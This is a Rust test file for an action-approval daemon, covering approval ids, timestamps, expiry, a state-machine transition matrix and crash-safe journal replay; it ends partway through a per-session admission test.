//! Table tests for approval ids, the state machine, journal replay (including a crash at every
//! byte of a journal), the decide rule, audit payloads, the agent-facing texts and the preview.

use std::collections::BTreeMap;

use serde_json::{Map, Value, json};

use super::timestamp::{UtcTime, millis_between};
use super::*;
use crate::action::fixtures::{CREATE_ISSUE, LIST_ISSUES};
use crate::action::{ActionFile, Preview, parse_action};
use crate::failure::{Boundary, FailureClass};
use crate::identity::ContentHash;
use crate::vocabulary::EventType;

const T0: &str = "2026-11-22T05:37:00.123Z";
const T1: &str = "2026-11-22T05:37:01.623Z";
const T2: &str = "2026-11-22T05:37:02.000Z";
const T3: &str = "2026-11-22T05:37:03.000Z";

use ApprovalState::{
    Approved as A, AwaitingVault as V, Cancelled as X, Completed as C, Denied as D, Expired as E, Failed as F,
    PendingApproval as P, Running as R,
};

fn create_issue() -> ActionFile {
    parse_action(CREATE_ISSUE, "create-issue.md").unwrap()
}

fn id_at(requested_at: &str, byte: u8) -> ApprovalId {
    ApprovalId::new(requested_at, [byte; 8]).unwrap()
}

fn args() -> Map<String, Value> {
    json!({"owner": "acme", "repo": "web", "title": "Broken login"}).as_object().unwrap().clone()
}

fn pending_entry(id: ApprovalId, requested_at: &str) -> ApprovalEntry {
    let action = create_issue();
    ApprovalEntry::pending(ApprovalRequest {
        id,
        action: &action,
        args: args(),
        preview: None,
        requested_at: requested_at.to_string(),
        session_id: Some("sess-1".to_string()),
        unconfined: false,
        policy_reason: None,
    })
}

fn entry_in(state: ApprovalState) -> ApprovalEntry {
    ApprovalEntry { state, ..pending_entry(id_at(T0, 1), T0) }
}

fn approve() -> EventKind {
    EventKind::Decided { approved: true, reason: None, by: "web".into(), args: None }
}

fn deny(reason: &str) -> EventKind {
    EventKind::Decided { approved: false, reason: Some(reason.into()), by: "cli".into(), args: None }
}

fn cancel() -> EventKind {
    EventKind::Cancelled { by: "session".into(), reason: Some("the session that asked ended".into()) }
}

fn completed() -> EventKind {
    EventKind::Finished { outcome: Outcome::Completed { audit_id: "audit-run".into(), result: json!({"number": 7}) } }
}

fn failed() -> EventKind {
    let failure = Failure::external_api(503, "upstream unavailable").with_audit_id("audit-fail");
    EventKind::Finished { outcome: Outcome::Failed { failure } }
}

fn recovered() -> EventKind {
    EventKind::Recovered { reason: RECOVERY_REASON.into() }
}

// ---------------------------------------------------------------------------------------------
// ids and timestamps

#[test]
fn approval_ids_are_built_from_the_request_time_and_random_bytes() {
    let cases = [
        (T0, [0x01, 0x23, 0x45, 0x67, 0x89, 0xab, 0xcd, 0xef], "act-20261122T053700Z-0123456789abcdef"),
        ("2024-02-29T23:59:59Z", [0xff; 8], "act-20240229T235959Z-ffffffffffffffff"),
        ("2000-01-01T00:00:00.999999Z", [0; 8], "act-20000101T000000Z-0000000000000000"),
    ];
    for (requested_at, random, expected) in cases {
        let id = ApprovalId::new(requested_at, random).unwrap();
        assert_eq!(id.as_str(), expected);
        assert_eq!(ApprovalId::parse(expected).unwrap(), id);
    }
    let bad_times = [
        "",
        "2026-11-22T05:37:00+01:00",
        "2026-11-22T05:37:00.123+00:00",
        "2026-11-22 05:37:00Z",
        "2026-11-22t05:37:00Z",
        "2026-02-29T00:00:00Z",
        "2026-11-31T00:00:00Z",
        "2026-11-22T24:00:00Z",
        "2026-11-22T05:60:00Z",
        "2026-11-22T05:37:60Z",
        "2026-11-22T05:37:00.Z",
        "2026-11-22T05:37:00.12aZ",
        "2026-11-22T05:37:00Zjunk",
        "20261122T053700Z",
        "２026-11-22T05:37:00Z",
    ];
    for bad in bad_times {
        assert_eq!(ApprovalId::new(bad, [0; 8]), Err(ApprovalIdError::InvalidTimestamp(bad.into())), "{bad}");
    }
}

#[test]
fn approval_id_parsing_is_strict() {
    let long = format!("act-{}", "x".repeat(500));
    let cases: [(&str, Option<&str>); 16] = [
        ("act-20261122T053700Z-0123456789abcdef", None),
        ("act-20240229T235959Z-ffffffffffffffff", None),
        ("", Some("must start with `act-`")),
        ("ACT-20261122T053700Z-0123456789abcdef", Some("must start with `act-`")),
        ("act-", Some("a `-` must separate")),
        ("act-20261122T053700Z", Some("a `-` must separate")),
        ("act-20261322T053700Z-0123456789abcdef", Some("the timestamp")),
        ("act-20260229T000000Z-0123456789abcdef", Some("the timestamp")),
        ("act-20261122T053760Z-0123456789abcdef", Some("the timestamp")),
        ("act-20261122-053700Z-0123456789abcdef", Some("the timestamp")),
        ("act-2026112２T05370Z-0123456789abcdef", Some("the timestamp")),
        ("act-20261122T053700Z-0123456789ABCDEF", Some("16 lowercase hex")),
        ("act-20261122T053700Z-0123456789abcde", Some("16 lowercase hex")),
        ("act-20261122T053700Z-0123456789abcdef0", Some("16 lowercase hex")),
        ("act-20261122T053700Z-0123456789abcdef/../x", Some("16 lowercase hex")),
        (long.as_str(), Some("a `-` must separate")),
    ];
    for (input, problem) in cases {
        match (ApprovalId::parse(input), problem) {
            (Ok(id), None) => {
                assert_eq!(id.to_string(), input);
                assert_eq!(serde_json::to_value(&id).unwrap(), json!(input));
                assert_eq!(serde_json::from_value::<ApprovalId>(json!(input)).unwrap(), id);
            }
            (Err(error), Some(problem)) => {
                let message = error.to_string();
                assert!(message.contains(problem), "{input}: {message}");
                assert!(message.contains("e.g. act-20261122T053700Z-0123456789abcdef"), "{message}");
                // Untrusted input is echoed only in part.
                assert!(message.len() < 300, "{message}");
                assert!(serde_json::from_value::<ApprovalId>(json!(input)).is_err(), "{input}");
            }
            (other, _) => panic!("{input}: unexpected {other:?}"),
        }
    }
}

#[test]
fn ids_sort_by_request_time() {
    let mut ids = vec![id_at(T2, 0), id_at(T0, 0xff), id_at(T1, 0)];
    ids.sort();
    assert_eq!(ids, vec![id_at(T0, 0xff), id_at(T1, 0), id_at(T2, 0)]);
}

#[test]
fn rfc3339_times_map_to_epoch_milliseconds() {
    let cases = [
        ("1970-01-01T00:00:00Z", Some(0)),
        ("1970-01-01T00:00:00.5Z", Some(500)),
        ("1970-01-02T00:00:00.001Z", Some(86_400_001)),
        (T0, Some(1_795_325_820_123)),
        ("2000-02-29T23:59:59.999Z", Some(951_868_799_999)),
        ("1969-12-31T23:59:59Z", Some(-1000)),
        ("2026-13-01T00:00:00Z", None),
    ];
    for (text, expected) in cases {
        assert_eq!(UtcTime::parse_rfc3339(text).map(|t| t.epoch_millis()), expected, "{text}");
    }
    assert_eq!(millis_between(T0, T1), Some(1500));
    assert_eq!(millis_between(T1, T0), Some(0), "a clock that went backwards saturates");
    assert_eq!(millis_between(T0, "yesterday"), None);
    assert_eq!(UtcTime::parse_compact("20261122T053700Z").map(|t| t.compact()), Some("20261122T053700Z".into()));
}

#[test]
fn expiry_is_a_duration_from_a_minute_to_a_week() {
    for (text, expected) in [
        ("30m", Ok(1_800_000)),
        ("4h", Ok(14_400_000)),
        ("7d", Ok(MAX_EXPIRY_MS)),
        ("1h30m", Ok(5_400_000)),
        ("90s", Ok(90_000)),
        (" 2d ", Ok(172_800_000)),
    ] {
        assert_eq!(parse_expiry(text), expected, "{text}");
    }
    for (text, says) in [
        ("59s", "outside 1m..7d"),
        ("8d", "outside 1m..7d"),
        ("30", "each number needs a unit"),
        ("m", "a unit without a number"),
        ("30 m", "not one of the units"),
        ("1w", "not one of the units"),
        ("", "each number needs a unit"),
    ] {
        let error = parse_expiry(text).unwrap_err();
        assert!(error.contains(says), "{text}: {error}");
    }
}

#[test]
fn a_pending_entry_is_due_once_its_expiry_has_passed() {
    let mut entry = pending_entry(id_at(T0, 1), T0);
    entry.expires_after_ms = Some(1_000);
    assert!(!entry.is_due_to_expire(T0));
    assert_eq!(entry.expires_in_ms(T0), Some(1_000));
    assert!(entry.is_due_to_expire(T1), "1.5 s after a 1 s expiry");
    assert_eq!(entry.expires_in_ms(T1), Some(0));
    // An entry journaled before expiry existed waits the default.
    entry.expires_after_ms = None;
    assert_eq!(entry.expiry_ms(), DEFAULT_EXPIRY_MS);
    assert!(!entry.is_due_to_expire(T3));
    assert!(entry.is_due_to_expire("2026-11-23T05:37:00.123Z"));
    // Only a pending entry expires.
    let (approved, _) = entry.advance(T1, approve()).unwrap();
    assert!(!approved.is_due_to_expire("2026-12-22T05:37:00.123Z"));
    assert_eq!(approved.expires_in_ms(T1), None);
}

// ---------------------------------------------------------------------------------------------
// the state machine

#[test]
fn every_pair_of_states_is_either_legal_or_an_illegal_transition_error() {
    // Rows are `from`, columns `to`, both in `ApprovalState::ALL` order:
    // pending_approval, approved, awaiting_vault, running, completed, denied, failed, expired,
    // cancelled.
    let matrix = [
        (P, "- y - - - y - y y"),
        (A, "- - y y - - - - -"),
        (V, "- - - y - - - - -"),
        (R, "- - - - y - y - -"),
        (C, "- - - - - - - - -"),
        (D, "- - - - - - - - -"),
        (F, "- - - - - - - - -"),
        (E, "- - - - - - - - -"),
        (X, "- - - - - - - - -"),
    ];
    let mut checked = 0;
    for (from, row) in matrix {
        let cells: Vec<&str> = row.split(' ').collect();
        for (to, cell) in ApprovalState::ALL.into_iter().zip(cells) {
            let legal = cell == "y";
            assert_eq!(from.can_become(to), legal, "{from} -> {to}");
            let expected = if legal { Ok(to) } else { Err(IllegalTransition { from, to }) };
            assert_eq!(from.transition(to), expected, "{from} -> {to}");
            if let Err(error) = from.transition(to) {
                assert_eq!(error.to_string(), format!("an approval cannot go from `{from}` to `{to}`"));
            }
            checked += 1;
        }
    }
    assert_eq!(checked, 81);
}

#[test]
fn states_serialize_in_snake_case_and_decide_what_a_restart_does() {
    let cases = [
        (P, "pending_approval", false, RestartAction::KeepWaiting),
        (A, "approved", false, RestartAction::Resume),
        (V, "awaiting_vault", false, RestartAction::Resume),
        (R, "running", false, RestartAction::RecoverAsFailed),
        (C, "completed", true, RestartAction::Keep),
        (D, "denied", true, RestartAction::Keep),
        (F, "failed", true, RestartAction::Keep),
        (E, "expired", true, RestartAction::Keep),
        (X, "cancelled", true, RestartAction::Keep),
    ];
    assert_eq!(cases.map(|c| c.0), ApprovalState::ALL);
    for (state, name, terminal, on_restart) in cases {
        assert_eq!(state.as_str(), name);
        assert_eq!(serde_json::to_value(state).unwrap(), json!(name));
        assert_eq!(serde_json::from_value::<ApprovalState>(json!(name)).unwrap(), state);
        assert_eq!(state.is_terminal(), terminal, "{name}");
        assert_eq!(state.on_restart(), on_restart, "{name}");
    }
}

#[test]
fn every_event_applies_from_exactly_the_states_the_machine_allows() {
    let events = [
        (approve(), A),
        (deny("no"), D),
        (EventKind::AwaitingVault, V),
        (EventKind::Started, R),
        (completed(), C),
        (failed(), F),
        (recovered(), F),
        (EventKind::Expired, E),
        (cancel(), X),
    ];
    for (kind, target) in events {
        assert_eq!(kind.target(), Some(target));
        for from in ApprovalState::ALL {
            let entry = entry_in(from);
            let result = entry.advance(T1, kind.clone());
            match result {
                Ok((next, event)) => {
                    assert!(from.can_become(target), "{} from {from}", kind.name());
                    assert_eq!(next.state, target);
                    assert_eq!(event, JournalEvent { at: T1.into(), id: entry.id.clone(), kind: kind.clone() });
                    assert_eq!(next.args, entry.args, "no event changes the registered arguments");
                    assert_eq!(next.action_sha256, entry.action_sha256);
                }
                Err(error) => {
                    assert!(!from.can_become(target), "{} from {from}", kind.name());
                    let expected = ApplyError::Illegal {
                        id: entry.id.clone(),
                        event: kind.name(),
                        transition: IllegalTransition { from, to: target },
                    };
                    assert_eq!(error, expected);
                }
            }
        }
    }
}

#[test]
fn events_record_the_decision_and_the_outcome_on_the_entry() {
    let (denied, _) = entry_in(P).advance(T1, deny("wrong repo")).unwrap();
    assert_eq!(
        (denied.decided_at.as_deref(), denied.decided_by.as_deref(), denied.reason.as_deref()),
        (Some(T1), Some("cli"), Some("wrong repo"))
    );
    let (done, _) = entry_in(R).advance(T2, completed()).unwrap();
    assert_eq!((done.audit_id.as_deref(), done.result), (Some("audit-run"), Some(json!({"number": 7}))));
    let (broken, _) = entry_in(R).advance(T2, failed()).unwrap();
    let failure = broken.failure.unwrap();
    assert_eq!((broken.audit_id.as_deref(), failure.class), (Some("audit-fail"), FailureClass::ExternalApiError));
    let (lost, _) = entry_in(R).advance(T2, recovered()).unwrap();
    let failure = lost.failure.unwrap();
    assert_eq!(
        (failure.class, failure.boundary, failure.retriable),
        (FailureClass::ConnectorRuntimeError, Boundary::Runtime, false)
    );
    assert_eq!((failure.message.as_str(), failure.details.get("recovered")), (RECOVERY_REASON, Some(&json!(true))));

    let (expired, _) = entry_in(P).advance(T2, EventKind::Expired).unwrap();
    assert_eq!((expired.decided_at.as_deref(), expired.decided_by.as_deref()), (Some(T2), Some(EXPIRY)));
    assert_eq!(expired.decision(), Some(ApprovalDecision::Timeout));
    let (withdrawn, _) = entry_in(P).advance(T2, cancel()).unwrap();
    assert_eq!(
        (withdrawn.decided_by.as_deref(), withdrawn.reason.as_deref(), withdrawn.decision()),
        (Some("session"), Some("the session that asked ended"), Some(ApprovalDecision::Cancelled))
    );
    assert_eq!(ApprovalDecision::Timeout.audit_event_type(), Some(EventType::ApprovalExpired));
    assert_eq!(ApprovalDecision::Cancelled.audit_event_type(), Some(EventType::ApprovalCancelled));

    let mut entry = entry_in(P);
    let foreign = JournalEvent { at: T1.into(), id: id_at(T1, 9), kind: approve() };
    assert_eq!(entry.apply(&foreign), Err(ApplyError::WrongEntry { entry: entry.id.clone(), event: id_at(T1, 9) }));
    let again = JournalEvent::requested(&entry);
    assert_eq!(entry.apply(&again), Err(ApplyError::AlreadyRequested(entry.id.clone())));
    assert_eq!(entry, entry_in(P), "a rejected event changes nothing");
}

// ---------------------------------------------------------------------------------------------
// the entry

#[test]
fn a_pending_entry_binds_the_action_bytes_and_the_arguments() {
    let entry = pending_entry(id_at(T0, 1), T0);
    assert_eq!(entry.kind, ApprovalKind::Action);
    assert_eq!((entry.action.as_str(), entry.action_version.as_str()), ("create-issue", "0.3.1"));
    assert_eq!(entry.action_sha256, ContentHash::of_bytes(CREATE_ISSUE.as_bytes()));
    assert_eq!(entry.connector_fqn.as_ref().map(|f| f.to_string()).as_deref(), Some("github://aileron/github"));
    assert_eq!((entry.state, entry.args.clone(), entry.decision()), (P, args(), None));

    let edited = CREATE_ISSUE.replace("Files a new issue", "Files a new issue (edited)");
    let cases = [
        (CREATE_ISSUE.to_string(), "create-issue.md", true),
        (edited, "create-issue.md", false),
        (LIST_ISSUES.to_string(), "list-issues.md", false),
    ];
    for (text, file, accepted) in cases {
        let action = parse_action(&text, file).unwrap();
        match entry.verify_action(&action) {
            Ok(()) => assert!(accepted, "{file}"),
            Err(failure) => {
                assert!(!accepted, "{file}");
                assert_eq!((failure.class, failure.retriable), (FailureClass::HashMismatch, false));
                assert!(failure.message.contains("changed after approval"), "{}", failure.message);
                assert_eq!(failure.details["approved_sha256"], json!(entry.action_sha256.to_string()));
                assert_eq!(
                    failure.details["current_sha256"],
                    json!(format!("{}", ContentHash::of_bytes(text.as_bytes())))
                );
            }
        }
    }
}

#[test]
fn entries_round_trip_through_json_with_optional_fields_omitted() {
    let entry = pending_entry(id_at(T0, 1), T0);
    let value = serde_json::to_value(&entry).unwrap();
    let keys: Vec<&str> = value.as_object().unwrap().keys().map(String::as_str).collect();
    let mut expected = vec![
        "action",
        "action_sha256",
        "action_version",
        "args",
        "connector_fqn",
        "expires_after_ms",
        "id",
        "kind",
        "requested_at",
        "session_id",
        "state",
    ];
    expected.sort();
    let mut keys = keys;
    keys.sort();
    assert_eq!(keys, expected);
    assert_eq!(value["kind"], "action");
    assert_eq!(value["state"], "pending_approval");
    assert_eq!(serde_json::from_value::<ApprovalEntry>(value).unwrap(), entry);
}

// ---------------------------------------------------------------------------------------------
// the journal

#[test]
fn journal_lines_are_flat_json_objects() {
    let id = id_at(T0, 1);
    let line = |seq, at: &str, kind| JournalEvent { at: at.into(), id: id.clone(), kind }.sequenced(seq);
    let failure = Failure::external_api(503, "upstream unavailable").with_audit_id("audit-fail");
    let cases = [
        (
            line(2, T1, approve()),
            json!({"seq": 2, "at": T1, "id": id, "event": "decided", "approved": true, "by": "web"}),
        ),
        (
            line(2, T1, deny("wrong repo")),
            json!({"seq": 2, "at": T1, "id": id, "event": "decided", "approved": false,
                   "reason": "wrong repo", "by": "cli"}),
        ),
        (line(3, T1, EventKind::AwaitingVault), json!({"seq": 3, "at": T1, "id": id, "event": "awaiting_vault"})),
        (line(4, T2, EventKind::Started), json!({"seq": 4, "at": T2, "id": id, "event": "started"})),
        (
            line(5, T3, completed()),
            json!({"seq": 5, "at": T3, "id": id, "event": "finished",
                   "outcome": {"status": "completed", "audit_id": "audit-run", "result": {"number": 7}}}),
        ),
        (
            line(5, T3, failed()),
            json!({"seq": 5, "at": T3, "id": id, "event": "finished",
                   "outcome": {"status": "failed", "failure": serde_json::to_value(&failure).unwrap()}}),
        ),
        (
            line(5, T3, recovered()),
            json!({"seq": 5, "at": T3, "id": id, "event": "recovered", "reason": RECOVERY_REASON}),
        ),
    ];
    for (line, expected) in cases {
        let text = line.to_line();
        assert!(!text.contains('\n'), "{text}");
        assert_eq!(serde_json::from_str::<Value>(&text).unwrap(), expected);
        assert_eq!(serde_json::from_str::<JournalLine>(&text).unwrap(), line);
    }
    let requested = JournalEvent::requested(&pending_entry(id.clone(), T0)).sequenced(1);
    let value: Value = serde_json::from_str(&requested.to_line()).unwrap();
    assert_eq!((&value["event"], &value["at"], &value["entry"]["id"]), (&json!("requested"), &json!(T0), &json!(id)));
    assert_eq!(serde_json::from_value::<JournalLine>(value).unwrap(), requested);
}

/// A journal written the way the daemon writes it: every event produced by `advance`.
struct Script {
    lines: Vec<String>,
}

impl Script {
    fn new() -> Script {
        Script { lines: Vec::new() }
    }

    fn push(&mut self, event: JournalEvent) -> &mut Script {
        let seq = self.lines.len() as u64 + 1;
        self.lines.push(event.sequenced(seq).to_line());
        self
    }

    /// Events for one entry, starting with its request.
    fn entry(&mut self, entry: &ApprovalEntry, kinds: Vec<EventKind>) -> &mut Script {
        self.push(JournalEvent::requested(entry));
        let mut current = entry.clone();
        for kind in kinds {
            let (next, event) = current.advance(T1, kind).unwrap();
            self.push(event);
            current = next;
        }
        self
    }

    fn raw(&mut self, line: &str) -> &mut Script {
        self.lines.push(line.to_string());
        self
    }

    fn text(&self) -> String {
        self.lines.iter().map(|line| format!("{line}\n")).collect()
    }
}

#[derive(Default)]
struct Expected<'a> {
    states: Vec<(&'a ApprovalId, ApprovalState)>,
    to_resume: Vec<&'a ApprovalId>,
    recovered: Vec<&'a ApprovalId>,
    torn_tail: bool,
    errors: Vec<&'a str>,
}

fn summary(error: &ReplayError) -> String {
    match error {
        ReplayError::UnknownId { line, event, .. } => format!("{line}: unknown id ({event})"),
        ReplayError::InvalidRequest { line, .. } => format!("{line}: invalid request"),
        ReplayError::Rejected { line, error: ApplyError::AlreadyRequested(_) } => format!("{line}: already requested"),
        ReplayError::Rejected { line, error: ApplyError::Illegal { event, transition, .. } } => {
            format!("{line}: {event} illegal {} -> {}", transition.from, transition.to)
        }
        ReplayError::Rejected { line, error: ApplyError::WrongEntry { .. } } => format!("{line}: wrong entry"),
        ReplayError::SeqNotIncreasing { line, seq, previous } => format!("{line}: seq {seq} after {previous}"),
    }
}

fn check_replay(name: &str, journal: &str, expected: Expected<'_>) -> ReplayResult {
    let result = replay(journal);
    let states: Vec<(&ApprovalId, ApprovalState)> = result.entries.iter().map(|(id, e)| (id, e.state)).collect();
    assert_eq!(states, expected.states, "{name}: states");
    assert_eq!(result.to_resume.iter().collect::<Vec<_>>(), expected.to_resume, "{name}: to_resume");
    let recovered: Vec<&ApprovalId> = result.recovered.iter().map(|(id, _)| id).collect();
    assert_eq!(recovered, expected.recovered, "{name}: recovered");
    assert!(result.recovered.iter().all(|(_, reason)| reason == RECOVERY_REASON), "{name}");
    assert_eq!(result.torn_tail, expected.torn_tail, "{name}: torn_tail");
    let errors: Vec<String> = result.errors.iter().map(summary).collect();
    assert_eq!(errors, expected.errors, "{name}: errors");
    for error in &result.errors {
        assert!(error.to_string().starts_with("approvals.jsonl line "), "{error}");
    }
    result
}

#[test]
fn replay_after_a_crash_at_each_step() {
    let a = id_at(T0, 0xa);
    let entry = pending_entry(a.clone(), T0);
    let steps: Vec<(&str, Vec<EventKind>, ApprovalState, bool, bool)> = vec![
        ("crash after requested", vec![], P, false, false),
        ("crash after decided (approved)", vec![approve()], A, true, false),
        ("crash after decided (denied)", vec![deny("no")], D, false, false),
        ("crash while awaiting the vault", vec![approve(), EventKind::AwaitingVault], V, true, false),
        ("crash after started", vec![approve(), EventKind::Started], F, false, true),
        (
            "crash after started from the vault wait",
            vec![approve(), EventKind::AwaitingVault, EventKind::Started],
            F,
            false,
            true,
        ),
        ("crash after finished (completed)", vec![approve(), EventKind::Started, completed()], C, false, false),
        ("crash after finished (failed)", vec![approve(), EventKind::Started, failed()], F, false, false),
        ("restart after a recovery was journaled", vec![approve(), EventKind::Started, recovered()], F, false, false),
    ];
    for (name, kinds, state, resumes, recovers) in steps {
        let count = kinds.len() as u64 + 1;
        let journal = Script::new().entry(&entry, kinds).text();
        let result = check_replay(
            name,
            &journal,
            Expected {
                states: vec![(&a, state)],
                to_resume: if resumes { vec![&a] } else { vec![] },
                recovered: if recovers { vec![&a] } else { vec![] },
                ..Expected::default()
            },
        );
        assert_eq!((result.intact_len, result.last_seq), (journal.len(), count), "{name}");
    }
    let result = replay(&Script::new().entry(&entry, vec![approve(), EventKind::Started]).text());
    let failure = result.entries[&a].failure.clone().unwrap();
    assert_eq!((failure.class, failure.message.as_str()), (FailureClass::ConnectorRuntimeError, RECOVERY_REASON));
}

#[test]
fn replay_rebuilds_exactly_the_state_the_daemon_held() {
    let denied = pending_entry(id_at(T0, 1), T0);
    let completed_entry = pending_entry(id_at(T1, 2), T1);
    let mut script = Script::new();
    script.push(JournalEvent::requested(&denied)).push(JournalEvent::requested(&completed_entry));
    let decision = Decision { approved: false, reason: Some("  wrong repo ".into()), by: "web".into(), args: None };
    let (denied, event) = decide(&denied, decision, T1).unwrap();
    script.push(event);
    // The live daemon cannot start a denied entry, so nothing is journaled for the attempt.
    assert!(matches!(denied.advance(T2, EventKind::Started), Err(ApplyError::Illegal { .. })));
    let mut live = completed_entry;
    for (at, kind) in [(T2, approve()), (T2, EventKind::AwaitingVault), (T3, EventKind::Started), (T3, completed())] {
        let (next, event) = live.advance(at, kind).unwrap();
        script.push(event);
        live = next;
    }
    let replayed = replay(&script.text());
    let expected: BTreeMap<ApprovalId, ApprovalEntry> =
        [(denied.id.clone(), denied), (live.id.clone(), live)].into_iter().collect();
    assert_eq!(replayed.entries, expected);
    assert!(replayed.errors.is_empty() && replayed.to_resume.is_empty() && replayed.recovered.is_empty());
}

#[test]
fn replay_tolerates_torn_tails_and_reports_bad_events_without_applying_them() {
    let a = id_at(T0, 0xa);
    let b = id_at(T1, 0xb);
    let c = id_at(T2, 0xc);
    let entry_a = pending_entry(a.clone(), T0);
    let entry_b = pending_entry(b.clone(), T1);
    let entry_c = pending_entry(c.clone(), T2);
    let approved = Script::new().entry(&entry_a, vec![approve()]).text();
    let started_line = {
        let (running, _) = entry_a.advance(T1, approve()).unwrap();
        running.advance(T2, EventKind::Started).unwrap().1.sequenced(3).to_line()
    };

    // A `started` cut anywhere, even complete but for its newline, was never acted on.
    for cut in [1, started_line.len() / 2, started_line.len()] {
        let journal = format!("{approved}{}", &started_line[..cut]);
        let result = check_replay(
            &format!("torn started, {cut} bytes"),
            &journal,
            Expected { states: vec![(&a, A)], to_resume: vec![&a], torn_tail: true, ..Expected::default() },
        );
        assert_eq!(result.intact_len, approved.len());
    }
    let result = check_replay(
        "unparsable last line",
        &format!("{approved}{{\"seq\":3,\"at\"\n"),
        Expected { states: vec![(&a, A)], to_resume: vec![&a], torn_tail: true, ..Expected::default() },
    );
    assert_eq!(result.intact_len, approved.len());

    let cases: Vec<(&str, String, Expected<'_>)> = vec![
        ("empty journal", String::new(), Expected { states: vec![], ..Expected::default() }),
        (
            "duplicate decide events: the first decision wins",
            Script::new()
                .entry(&entry_a, vec![approve()])
                .push(JournalEvent { at: T2.into(), id: a.clone(), kind: deny("late") })
                .text(),
            Expected {
                states: vec![(&a, A)],
                to_resume: vec![&a],
                errors: vec!["3: decided illegal approved -> denied"],
                ..Expected::default()
            },
        ),
        (
            "a second started is not a second run",
            Script::new()
                .entry(&entry_a, vec![approve(), EventKind::Started])
                .push(JournalEvent { at: T2.into(), id: a.clone(), kind: EventKind::Started })
                .text(),
            Expected {
                states: vec![(&a, F)],
                recovered: vec![&a],
                errors: vec!["4: started illegal running -> running"],
                ..Expected::default()
            },
        ),
        (
            "finished after completed",
            Script::new()
                .entry(&entry_a, vec![approve(), EventKind::Started, completed()])
                .push(JournalEvent { at: T3.into(), id: a.clone(), kind: failed() })
                .text(),
            Expected {
                states: vec![(&a, C)],
                errors: vec!["5: finished illegal completed -> failed"],
                ..Expected::default()
            },
        ),
        (
            "events for unknown ids",
            Script::new()
                .push(JournalEvent { at: T1.into(), id: b.clone(), kind: approve() })
                .entry(&entry_a, vec![])
                .push(JournalEvent { at: T2.into(), id: c.clone(), kind: EventKind::Started })
                .text(),
            Expected {
                states: vec![(&a, P)],
                errors: vec!["1: unknown id (decided)", "3: unknown id (started)"],
                ..Expected::default()
            },
        ),
        (
            "a duplicate request keeps the first",
            Script::new().entry(&entry_a, vec![approve()]).push(JournalEvent::requested(&entry_a)).text(),
            Expected {
                states: vec![(&a, A)],
                to_resume: vec![&a],
                errors: vec!["3: already requested"],
                ..Expected::default()
            },
        ),
        (
            "a request carrying a decided entry",
            Script::new().push(JournalEvent::requested(&ApprovalEntry { state: A, ..entry_a.clone() })).text(),
            Expected { states: vec![], errors: vec!["1: invalid request"], ..Expected::default() },
        ),
        (
            "a request whose entry has another id",
            Script::new().push(JournalEvent { id: b.clone(), ..JournalEvent::requested(&entry_a) }).text(),
            Expected { states: vec![], errors: vec!["1: invalid request"], ..Expected::default() },
        ),
        (
            "seq going backwards is reported and still applied",
            format!(
                "{}\n{}\n",
                JournalEvent::requested(&entry_a).sequenced(5).to_line(),
                JournalEvent { at: T1.into(), id: a.clone(), kind: approve() }.sequenced(5).to_line()
            ),
            Expected {
                states: vec![(&a, A)],
                to_resume: vec![&a],
                errors: vec!["2: seq 5 after 5"],
                ..Expected::default()
            },
        ),
        (
            "several entries interleaved, each in its own state",
            Script::new()
                .push(JournalEvent::requested(&entry_c))
                .push(JournalEvent::requested(&entry_a))
                .push(JournalEvent::requested(&entry_b))
                .push(JournalEvent { at: T3.into(), id: b.clone(), kind: approve() })
                .push(JournalEvent { at: T3.into(), id: c.clone(), kind: approve() })
                .push(JournalEvent { at: T3.into(), id: c.clone(), kind: EventKind::Started })
                .text(),
            Expected {
                states: vec![(&a, P), (&b, A), (&c, F)],
                to_resume: vec![&b],
                recovered: vec![&c],
                ..Expected::default()
            },
        ),
    ];
    for (name, journal, expected) in cases {
        check_replay(name, &journal, expected);
    }
}

/// A damaged line with whole lines after it is not a crash trace: replay stops there instead of
/// skipping it, since the lost line may be what keeps an action from running again.
#[test]
fn replay_stops_at_a_damaged_line_that_is_not_the_last() {
    let a = id_at(T0, 0xa);
    let entry_a = pending_entry(a.clone(), T0);
    let requested = Script::new().push(JournalEvent::requested(&entry_a)).text();
    let approved_started = Script::new().entry(&entry_a, vec![approve(), EventKind::Started]).text();
    // Each of `decided`, `started` and `finished` of an action that ran and failed, damaged in turn:
    // skipping it would leave the entry pending, approved (resumed: run again) or running.
    let kinds = vec![approve(), EventKind::Started, failed()];
    for damaged in 1..=3 {
        let mut script = Script::new();
        script.push(JournalEvent::requested(&entry_a));
        for (at, kind) in kinds.iter().enumerate() {
            if at + 1 == damaged {
                script.raw("{garbage");
            } else {
                script.push(JournalEvent { at: T1.into(), id: a.clone(), kind: kind.clone() });
            }
        }
        // Another approval requested later: the damaged line is not the last.
        script.push(JournalEvent::requested(&pending_entry(id_at(T2, 0xb), T2)));
        let journal = script.text();
        let result = replay(&journal);
        let name = format!("line {} damaged", damaged + 1);
        let unreadable = result.unreadable.clone().unwrap_or_else(|| panic!("{name}: replay went on"));
        assert_eq!(unreadable.line, damaged + 1, "{name}");
        assert!(
            unreadable.to_string().starts_with(&format!("line {} is not a journal event", damaged + 1)),
            "{unreadable}"
        );
        assert!(!result.torn_tail, "{name}");
        let before = &journal[..result.intact_len];
        assert_eq!(before.lines().count(), damaged, "{name}: replay stopped at the damaged line");
        assert_eq!(replay(before).entries, result.entries, "{name}");
    }
    // A damaged line in the middle, then blank lines and an event.
    let journal = format!(
        "{requested}{{not json\n\n{}\n",
        JournalEvent { at: T1.into(), id: a.clone(), kind: approve() }.sequenced(2).to_line()
    );
    let result = replay(&journal);
    assert_eq!(result.unreadable.map(|u| u.line), Some(2));
    assert_eq!(result.intact_len, requested.len());

    // The last line damaged, also followed by blank lines only: a torn tail, dropped.
    for tail in ["{garbage\n", "{garbage\n\n  \n", "{garbage"] {
        let result = check_replay(
            &format!("torn tail {tail:?}"),
            &format!("{approved_started}{tail}"),
            Expected { states: vec![(&a, F)], recovered: vec![&a], torn_tail: true, ..Expected::default() },
        );
        assert_eq!((result.intact_len, result.unreadable), (approved_started.len(), None), "{tail:?}");
    }
}

#[test]
fn admission_dedupes_and_caps_per_session() {
    let entry = |byte: u8, session: Option<&str>, title: &str, state: ApprovalState| {
        let mut entry = pending_entry(id_at(T0, byte), T0);
        entry.session_id = session.map(str::to_string);
        entry.args.insert("title".into(), title.into());
        entry.state = state;
        entry
    };
    let mut entries: Vec<ApprovalEntry> =
        (0..MAX_PENDING_PER_SESSION as u8 - 1).map(|n| entry(n, Some("sess-1"), &format!("t{n}"), P)).collect();
    entries.push(entry(200, Some("sess-2"), "other session", P));
    entries.push(entry(201, Some("sess-1"), "decided already", A));
    let request = |session, title: &str| entry(250, session, title, P);
